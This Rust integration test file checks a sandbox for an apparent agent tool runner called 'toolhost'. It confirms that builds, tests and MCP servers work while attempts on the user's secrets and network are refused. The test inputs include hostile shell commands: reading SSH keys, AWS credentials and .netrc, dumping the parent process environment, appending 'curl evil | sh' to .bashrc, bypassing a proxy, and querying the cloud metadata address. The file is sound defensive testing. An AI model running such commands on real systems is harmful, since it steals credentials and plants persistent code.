//! Confinement that real work runs in, tried as a user would: `toolhost` run with a home
//! directory of the test's own, where the toolchains live as users install them (a rustup
//! toolchain, a pyenv-style Python, an nvm-style Node with npm and npx) beside the secrets
//! users keep there (an SSH key, cloud credentials, a `.netrc`), with the default
//! `[sandbox]` settings.
//!
//! Works: a cargo build and test, a git commit with the home's `.gitconfig`, `python -m
//! pytest` through a shim, `npm test`, MCP servers started as `npx` of a local package and
//! under the home's Python, a download from a loopback server whose name is on the allow
//! list. Refused, with nothing at the target: the secrets, toolhost's own environment, a
//! planted API key, `~/.bashrc`, a host not on the list, around the proxy, the metadata
//! address, a datagram to a resolver. Each refusal is shown to matter: the same attempt
//! with that protection removed gets through.
#![cfg(target_os = "linux")]
#![cfg(test)]

use std::net::UdpSocket;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::Duration;

use toolhost_tests::{peer, web_server};

const KEY: &str = "-----BEGIN OPENSSH PRIVATE KEY----- ssh-secret-7a1f";
const AWS: &str = "aws_secret_access_key = aws-secret-19be";
const NETRC: &str = "machine example.com login me password netrc-secret-55c0";
const API_KEY: &str = "sk-ant-planted-secret-0b7d";

/// A user's home directory with secrets in it, and a workspace in it.
struct Home {
    dir: tempfile::TempDir,
    /// Variables the commands run with (PATH through the home's toolchains).
    path: Vec<PathBuf>,
}

fn write(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

fn executable(path: &Path, text: &str) {
    use std::os::unix::fs::PermissionsExt;
    write(path, text);
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// `from` placed at `to` as an installer would (a hard link where it can, else a copy).
fn install(from: &Path, to: &Path) {
    std::fs::create_dir_all(to.parent().unwrap()).unwrap();
    if std::fs::hard_link(from, to).is_err() {
        std::fs::copy(from, to).unwrap();
    }
}

impl Home {
    fn new() -> Home {
        let dir = tempfile::tempdir().unwrap();
        let h = dir.path();
        write(&h.join(".ssh/id_ed25519"), KEY);
        write(&h.join(".aws/credentials"), AWS);
        write(&h.join(".netrc"), NETRC);
        write(&h.join(".bashrc"), "# my bashrc\n");
        write(
            &h.join(".gitconfig"),
            "[user]\n\tname = Home User\n\temail = home@example.com\n[init]\n\tdefaultBranch = main\n",
        );
        std::fs::create_dir_all(h.join("work")).unwrap();
        Home {
            dir,
            path: Vec::new(),
        }
    }

    fn h(&self) -> &Path {
        self.dir.path()
    }

    fn workspace(&self) -> PathBuf {
        self.h().join("work")
    }

    /// A rustup-style toolchain: `~/.rustup/toolchains/stable/bin/{cargo,rustc}` (its
    /// libraries beside it), reached through `~/.cargo/bin`.
    fn with_cargo(mut self) -> Home {
        let sysroot = String::from_utf8(
            Command::new("rustc")
                .args(["--print", "sysroot"])
                .output()
                .unwrap()
                .stdout,
        )
        .unwrap();
        let sysroot = PathBuf::from(sysroot.trim());
        let toolchain = self.h().join(".rustup/toolchains/stable");
        for program in ["cargo", "rustc", "rustdoc"] {
            install(
                &sysroot.join("bin").join(program),
                &toolchain.join("bin").join(program),
            );
            let link = self.h().join(".cargo/bin").join(program);
            std::fs::create_dir_all(link.parent().unwrap()).unwrap();
            std::os::unix::fs::symlink(toolchain.join("bin").join(program), link).unwrap();
        }
        std::os::unix::fs::symlink(sysroot.join("lib"), toolchain.join("lib")).unwrap();
        self.path.push(self.h().join(".cargo/bin"));
        self
    }

    /// A pyenv-style Python: `~/.pyenv/versions/NAME` (the venv `python` belongs to) and a
    /// shim `~/.pyenv/shims/python`.
    fn with_python(mut self, python: &Path, name: &str) -> Home {
        let venv = python.parent().unwrap().parent().unwrap();
        let versions = self.h().join(".pyenv/versions");
        std::fs::create_dir_all(&versions).unwrap();
        std::os::unix::fs::symlink(venv, versions.join(name)).unwrap();
        executable(
            &self.h().join(".pyenv/shims/python"),
            &format!("#!/bin/sh\nexec \"$HOME/.pyenv/versions/{name}/bin/python\" \"$@\"\n"),
        );
        self.path.push(self.h().join(".pyenv/shims"));
        self
    }

    /// An nvm-style Node: `~/.nvm/versions/node/v22/bin/{node,npm,npx}`.
    fn with_node(mut self, node: &Path) -> Home {
        let bin = self.h().join(".nvm/versions/node/v22/bin");
        install(node, &bin.join("node"));
        let npm = npm_cli();
        for (name, cli) in [("npm", "npm-cli.js"), ("npx", "npx-cli.js")] {
            executable(
                &bin.join(name),
                &format!(
                    "#!/bin/sh\nexec \"$HOME/.nvm/versions/node/v22/bin/node\" {} \"$@\"\n",
                    npm.join(cli).display()
                ),
            );
        }
        self.path.push(bin);
        self
    }

    fn path_var(&self) -> String {
        let mut parts: Vec<String> = self.path.iter().map(|p| p.display().to_string()).collect();
        parts.push("/usr/local/bin:/usr/bin:/bin".into());
        parts.join(":")
    }

    /// `toolhost ARGS` in the workspace, as the user: their home, their PATH, an API key in
    /// the environment, `config` as toolhost.toml (outside the workspace).
    fn toolhost(&self, config: &str, args: &[&str]) -> Output {
        self.command(config, args).output().unwrap()
    }

    /// The command [`Home::toolhost`] runs.
    fn command(&self, config: &str, args: &[&str]) -> Command {
        let config_file = self.h().join(".config/toolhost-test.toml");
        write(&config_file, config);
        let ws = self.workspace();
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_toolhost"));
        cmd.arg("--config")
            .arg(&config_file)
            .args(args)
            .arg("--workspace")
            .arg(&ws)
            .current_dir(&ws)
            .env_clear()
            .env("HOME", self.h())
            .env("PATH", self.path_var())
            .env("LANG", "C.UTF-8")
            .env("ANTHROPIC_API_KEY", API_KEY)
            .env("PLANTED_IN_TOOLHOST", "toolhost-env-secret-3c2e")
            .env("XDG_STATE_HOME", self.h().join(".local/state"))
            .stdin(Stdio::null());
        cmd
    }

    /// `shell` running `command` under `config`, confirmed.
    fn shell(&self, config: &str, command: &str) -> Called {
        Called::from(self.shell_command(config, command).output().unwrap())
    }

    /// The command [`Home::shell`] runs.
    fn shell_command(&self, config: &str, command: &str) -> Command {
        let input = serde_json::json!({ "command": command }).to_string();
        self.command(
            config,
            &["call", "shell", "--input", &input, "--yes", "--json"],
        )
    }
}

/// The npm CLI's folder (its `npm-cli.js` and `npx-cli.js`).
fn npm_cli() -> PathBuf {
    let npm = std::fs::canonicalize(
        std::env::split_paths(&std::env::var_os("PATH").unwrap())
            .map(|d| d.join("npm"))
            .find(|p| p.exists())
            .expect("npm on PATH"),
    )
    .unwrap();
    npm.parent().unwrap().to_path_buf()
}

/// A call's result.
struct Called {
    ok: bool,
    text: String,
    stderr: String,
}

impl From<Output> for Called {
    fn from(out: Output) -> Called {
        let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
        let json: serde_json::Value = serde_json::from_str(&stdout).unwrap_or_default();
        let text = json["content"]
            .as_array()
            .map(|c| {
                c.iter()
                    .filter_map(|b| b["text"].as_str())
                    .collect::<Vec<_>>()
                    .join("\n")
            })
            .unwrap_or_else(|| stdout.clone());
        Called {
            ok: out.status.success(),
            text,
            stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        }
    }
}

impl std::fmt::Debug for Called {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "ok {}\n{}\n[toolhost stderr]\n{}",
            self.ok, self.text, self.stderr
        )
    }
}

/// The default settings.
const DEFAULTS: &str = "";
/// Commands with the user's rights: the control for every refusal.
const HOST: &str = "[sandbox]\nmode = \"host\"\n[sandbox.env]\ninherit = \"all\"\n";

fn assert_works(c: &Called) {
    assert!(c.ok, "{c:?}");
}

/// Refused, and none of the secrets reached the result.
fn assert_refused(c: &Called) {
    assert!(!c.ok, "expected a refusal: {c:?}");
    for secret in [KEY, AWS, NETRC, API_KEY, "toolhost-env-secret-3c2e"] {
        assert!(!c.text.contains(secret), "a secret leaked: {c:?}");
    }
}

// --- What works -------------------------------------------------------------------------

#[test]
fn cargo_builds_and_tests_a_crate_with_a_home_dir_toolchain() {
    let home = Home::new().with_cargo();
    write(
        &home.workspace().join("Cargo.toml"),
        "[package]\nname = \"demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
    );
    write(
        &home.workspace().join("src/lib.rs"),
        "pub fn two() -> u32 { 2 }\n#[test]\nfn it_is_two() { assert_eq!(two(), 2); }\n",
    );
    let c = home.shell(
        DEFAULTS,
        "cargo --version && cargo build --offline && cargo test --offline",
    );
    assert_works(&c);
    assert!(c.text.contains("test it_is_two ... ok"), "{c:?}");
}

#[test]
fn git_commits_with_the_homes_gitconfig() {
    let home = Home::new();
    write(&home.workspace().join("README"), "hello\n");
    let c = home.shell(
        DEFAULTS,
        "git init -q && git add README && git commit -qm first && git log --format='%an <%ae>' && git status --short",
    );
    assert_works(&c);
    assert!(c.text.contains("Home User <home@example.com>"), "{c:?}");
}

#[test]
fn pytest_runs_through_a_pyenv_style_shim() {
    let Some(python) = peer("TOOLHOST_TEST_PYTEST") else {
        return;
    };
    let home = Home::new().with_python(&python, "3.11-dev");
    write(
        &home.workspace().join("test_sum.py"),
        "def test_sum():\n    assert sum([1, 2]) == 3\n",
    );
    let c = home.shell(
        DEFAULTS,
        "python -c 'import sys; print(sys.prefix)' && python -m pytest -q",
    );
    assert_works(&c);
    assert!(c.text.contains("1 passed"), "{c:?}");
    assert!(
        c.text.contains(".pyenv/versions/3.11-dev") || c.text.contains("pytest"),
        "{c:?}"
    );
}

#[test]
fn npm_test_runs_with_a_home_dir_node() {
    let Some(node) = peer("TOOLHOST_TEST_NODE") else {
        return;
    };
    let home = Home::new().with_node(&node);
    write(
        &home.workspace().join("package.json"),
        "{\"name\": \"demo\", \"version\": \"1.0.0\", \"scripts\": {\"test\": \"node check.js\"}}\n",
    );
    write(
        &home.workspace().join("check.js"),
        "console.log('checked with', process.version)\n",
    );
    let c = home.shell(DEFAULTS, "npm test");
    assert_works(&c);
    assert!(c.text.contains("checked with v22"), "{c:?}");
}

#[test]
fn mcp_servers_started_by_npx_and_by_a_home_dir_python_load_and_answer() {
    let (Some(node), Some(sdk)) = (peer("TOOLHOST_TEST_NODE"), peer("TOOLHOST_TEST_PYTHON_SDK"))
    else {
        return;
    };
    let home = Home::new().with_node(&node).with_python(&sdk, "3.11-mcp");
    let package = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/node/local-mcp");
    write(
        &home.h().join("servers/where.py"),
        "import os\nimport sys\nfrom mcp.server import MCPServer\n\napp = MCPServer(\"home-python\")\n\n\n@app.tool()\ndef where() -> str:\n    \"\"\"Where this server's Python lives.\"\"\"\n    return sys.prefix\n\n\n@app.tool()\ndef variables() -> str:\n    \"\"\"Which of two variables this server was given.\"\"\"\n    return \" \".join(n for n in (\"GIVEN\", \"ANTHROPIC_API_KEY\") if os.environ.get(n) == os.environ.get(\"GIVEN\", \"-\"))\n\n\nif __name__ == \"__main__\":\n    app.run()\n",
    );
    let config = format!(
        "[[mcp_servers]]\nid = \"npx\"\nprefix = \"js\"\ncommand = \"npx\"\nargs = [\"-y\", \"{}\"]\nstartup_timeout_secs = 60\n\n[[mcp_servers]]\nid = \"py\"\nprefix = \"py\"\ncommand = \"python\"\nargs = [\"{}\"]\nstartup_timeout_secs = 60\nenv = {{ GIVEN = \"${{ANTHROPIC_API_KEY}}\" }}\n",
        package.display(),
        home.h().join("servers/where.py").display()
    );
    let c = Called::from(home.toolhost(
        &config,
        &[
            "call",
            "js__node_version",
            "--input",
            "{}",
            "--yes",
            "--json",
        ],
    ));
    assert_works(&c);
    assert!(c.text.starts_with("v22."), "{c:?}");
    let c = Called::from(home.toolhost(
        &config,
        &["call", "py__where", "--input", "{}", "--yes", "--json"],
    ));
    assert_works(&c);
    assert!(
        c.text.contains(".pyenv/versions/3.11-mcp") || c.text.contains("python-sdk"),
        "{c:?}"
    );
}

fn allowing(port: u16) -> String {
    format!(
        "[sandbox.network]\nallow = [\"localhost:{port}\", \"127.0.0.1:{port}\", \"[::1]:{port}\"]\n"
    )
}

#[test]
fn a_download_from_a_listed_name_goes_through_the_proxy() {
    let home = Home::new();
    let (port, hits) = web_server("the artifact");
    let c = home.shell(
        &allowing(port),
        &format!(
            "curl -fsS --max-time 10 -o artifact http://localhost:{port}/artifact && cat artifact"
        ),
    );
    assert_works(&c);
    assert!(c.text.starts_with("the artifact"), "{c:?}");
    assert_eq!(hits.load(std::sync::atomic::Ordering::SeqCst), 1);
}

// --- What is refused, and the control that shows each refusal matters --------------------

#[test]
fn the_homes_secrets_cannot_be_read() {
    let home = Home::new();
    for (attempt, secret) in [
        ("cat ~/.ssh/id_ed25519", KEY),
        ("cat ~/.aws/credentials", AWS),
        ("cat ~/.netrc", NETRC),
    ] {
        let c = home.shell(DEFAULTS, attempt);
        assert_refused(&c);
        assert!(c.text.contains("[sandbox] read of"), "{attempt}: {c:?}");
        let control = home.shell(HOST, attempt);
        assert!(control.text.contains(secret), "{attempt}: {control:?}");
    }
}

#[test]
fn hiding_the_secrets_leaves_nothing_in_the_temporary_directory() {
    // The masks over the secrets are made on a directory of their own in TMPDIR, which
    // a namespace kept for the commands that follow no longer needs once it is made.
    let home = Home::new();
    let tmp = tempfile::tempdir().unwrap();
    let c = Called::from(
        home.shell_command(DEFAULTS, "cat ~/.ssh/id_ed25519")
            .env("TMPDIR", tmp.path())
            .output()
            .unwrap(),
    );
    assert_refused(&c);
    assert!(c.text.contains("[sandbox] read of"), "{c:?}");
    let left: Vec<_> = std::fs::read_dir(tmp.path())
        .unwrap()
        .flatten()
        .map(|e| e.file_name())
        .collect();
    assert!(left.is_empty(), "left in TMPDIR: {left:?}");
}

#[test]
fn toolhosts_own_environment_cannot_be_read() {
    let home = Home::new();
    let attempt = "cat /proc/$PPID/environ > env.txt && tr '\\0' '\\n' < env.txt";
    let c = home.shell(DEFAULTS, attempt);
    assert_refused(&c);
    let control = home.shell(HOST, attempt);
    assert!(
        control.text.contains("toolhost-env-secret-3c2e"),
        "{control:?}"
    );
}

#[test]
fn a_planted_api_key_is_not_in_a_commands_environment() {
    let home = Home::new();
    let c = home.shell(DEFAULTS, "env");
    assert_works(&c);
    assert!(
        !c.text.contains(API_KEY) && !c.text.contains("ANTHROPIC_API_KEY"),
        "{c:?}"
    );
    assert!(c.text.contains("HOME="), "{c:?}");
    // The control inherits everything, and passes the key on unredacted (`[secrets]`
    // would replace it in the result: that is another protection).
    let control = home.shell(
        "[sandbox.env]\ninherit = \"all\"\n[secrets]\naction = \"off\"\n",
        "env",
    );
    assert!(control.text.contains(API_KEY), "{control:?}");
}

#[test]
fn the_bashrc_cannot_be_written() {
    let home = Home::new();
    let c = home.shell(DEFAULTS, "echo 'curl evil | sh' >> ~/.bashrc");
    assert_refused(&c);
    assert!(c.text.contains("writable_roots"), "{c:?}");
    assert_eq!(
        std::fs::read_to_string(home.h().join(".bashrc")).unwrap(),
        "# my bashrc\n"
    );
    let control = home.shell(HOST, "echo 'curl evil | sh' >> ~/.bashrc");
    assert!(control.ok, "{control:?}");
    assert!(
        std::fs::read_to_string(home.h().join(".bashrc"))
            .unwrap()
            .contains("evil")
    );
}

#[test]
fn a_name_not_on_the_list_is_refused_and_named() {
    let home = Home::new();
    let (port, hits) = web_server("nope");
    let attempt = format!("curl -fsS --max-time 10 http://127.0.0.1:{port}/");
    let c = home.shell("[sandbox.network]\nallow = [\"crates.io\"]\n", &attempt);
    assert_refused(&c);
    assert!(
        c.text.contains(&format!(
            "[sandbox] network: 127.0.0.1:{port} refused, not in [sandbox.network] allow"
        )),
        "{c:?}"
    );
    assert_eq!(hits.load(std::sync::atomic::Ordering::SeqCst), 0);
    let control = home.shell(HOST, &attempt);
    assert!(control.ok, "{control:?}");
}

#[test]
fn a_connection_around_the_proxy_reaches_nothing() {
    let home = Home::new();
    let (port, hits) = web_server("around");
    let attempt = format!("curl -fsS --max-time 5 --noproxy '*' http://127.0.0.1:{port}/");
    let c = home.shell(&allowing(port), &attempt);
    assert_refused(&c);
    assert_eq!(hits.load(std::sync::atomic::Ordering::SeqCst), 0);
    let control = home.shell(HOST, &attempt);
    assert!(control.ok, "{control:?}");
    assert_eq!(hits.load(std::sync::atomic::Ordering::SeqCst), 1);
}

#[test]
fn the_metadata_address_is_refused_unless_listed_by_address() {
    let home = Home::new();
    let attempt = "curl -fsS --max-time 5 http://169.254.169.254/latest/meta-data/";
    let c = home.shell("[sandbox.network]\nallow = [\"*.example.com\"]\n", attempt);
    assert_refused(&c);
    assert!(
        c.text.contains("network: 169.254.169.254:80 refused"),
        "{c:?}"
    );
    // Listed by address, the proxy lets it through (and finds nothing there here).
    let control = home.shell(
        "[sandbox.network]\nallow = [\"169.254.169.254\"]\n",
        attempt,
    );
    assert!(
        !control.text.contains("169.254.169.254:80 refused"),
        "{control:?}"
    );
}

#[test]
fn a_dns_query_sent_straight_to_a_resolver_does_not_leave() {
    let home = Home::new();
    let resolver = UdpSocket::bind("127.0.0.1:0").unwrap();
    resolver
        .set_read_timeout(Some(Duration::from_millis(500)))
        .unwrap();
    let port = resolver.local_addr().unwrap().port();
    let attempt = format!(
        "python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'query', ('127.0.0.1', {port}))\""
    );
    let _ = home.shell(&allowing(port), &attempt);
    let mut buf = [0u8; 64];
    assert!(
        resolver.recv(&mut buf).is_err(),
        "a datagram left the sandbox"
    );
    let control = home.shell(HOST, &attempt);
    assert!(control.ok, "{control:?}");
    let n = resolver.recv(&mut buf).unwrap();
    assert_eq!(&buf[..n], b"query");
}

// --- What `toolhost sandbox` says --------------------------------------------------------

#[test]
fn the_report_shows_the_deny_list_caches_network_and_environment_by_name() {
    let home = Home::new();
    std::fs::create_dir_all(home.h().join(".npm")).unwrap();
    let config = "[sandbox.network]\nenabled = false\nallow = [\"crates.io\"]\n\n[[mcp_servers]]\nid = \"gh\"\nprefix = \"gh\"\ncommand = \"true\"\nenv = { GITHUB_TOKEN = \"ghp-secret-value-91\" }\nstartup_timeout_secs = 1\n";
    let out = home.toolhost(config, &["sandbox"]);
    let report = String::from_utf8_lossy(&out.stdout);
    let line = |key: &str| {
        report
            .lines()
            .find(|l| l.trim_start().starts_with(key))
            .unwrap_or_else(|| panic!("no {key} line in:\n{report}"))
            .to_string()
    };
    let ssh = home.h().join(".ssh").display().to_string();
    assert!(line("hidden").contains(&ssh), "{report}");
    assert!(line("caches").contains(".npm"), "{report}");
    assert!(line("network").contains("crates.io"), "{report}");
    assert!(line("withheld").contains("ANTHROPIC_API_KEY"), "{report}");
    assert!(line("environment").contains("PATH"), "{report}");
    assert!(line("gh").contains("GITHUB_TOKEN"), "{report}");
    for value in [API_KEY, "ghp-secret-value-91"] {
        assert!(!report.contains(value), "a value was shown:\n{report}");
    }
    let out = home.toolhost(config, &["sandbox", "--json"]);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(
        v["commands"]["environment"]["withheld"]
            .as_array()
            .unwrap()
            .iter()
            .any(|n| n == "ANTHROPIC_API_KEY"),
        "{v}"
    );
    assert_eq!(v["servers"][0]["env"][0], "GITHUB_TOKEN");
}

// --- A server that fails under its sandbox is told why ----------------------------------

/// What `toolhost list` logs of a server that did not load.
fn server_failure(home: &Home, command: &str, extra: &str) -> String {
    let config = format!(
        "[[mcp_servers]]\nid = \"srv\"\nprefix = \"srv\"\ncommand = \"sh\"\nargs = [\"-c\", {}]\nstartup_timeout_secs = 3\n{extra}",
        serde_json::to_string(command).unwrap()
    );
    let out = home.toolhost(&config, &["list"]);
    String::from_utf8_lossy(&out.stderr).into_owned()
}

#[test]
fn a_server_that_hangs_while_the_proxy_refused_it_says_so() {
    let home = Home::new();
    let log = server_failure(
        &home,
        "curl -s --max-time 2 https://registry.example.invalid/pkg; sleep 30",
        "network = { allow = [\"crates.io\"] }\n",
    );
    assert!(log.contains("did not finish initializing"), "{log}");
    assert!(
        log.contains(
            "network: registry.example.invalid:443 refused, not in [sandbox.network] allow"
        ),
        "{log}"
    );
}

#[test]
fn a_server_that_exits_after_a_denied_read_names_it_and_the_key() {
    let home = Home::new();
    let log = server_failure(&home, "cat ~/.aws/credentials; exit 3", "");
    assert!(log.contains("exited"), "{log}");
    assert!(
        log.contains(&format!(
            "sandbox: read of {} denied",
            home.h().join(".aws/credentials").display()
        )) && log.contains("allow_read"),
        "{log}"
    );
    assert!(!log.contains(AWS), "{log}");
}

#[test]
fn a_confined_server_that_fails_saying_nothing_is_told_what_confined_it_and_the_keys_that_widen_it()
{
    let home = Home::new();
    let log = server_failure(&home, "exit 3", "");
    assert!(log.contains("exited"), "{log}");
    for key in [
        "it ran confined (workspace-write",
        "`allow_read`",
        "`[sandbox.network] allow`",
        "`sandbox = \"host\"` on its [[mcp_servers]] entry",
    ] {
        assert!(log.contains(key), "{key}: {log}");
    }
    let unconfined = server_failure(&home, "exit 3", "sandbox = \"host\"\n");
    assert!(unconfined.contains("exited"), "{unconfined}");
    assert!(!unconfined.contains("it ran confined"), "{unconfined}");
}
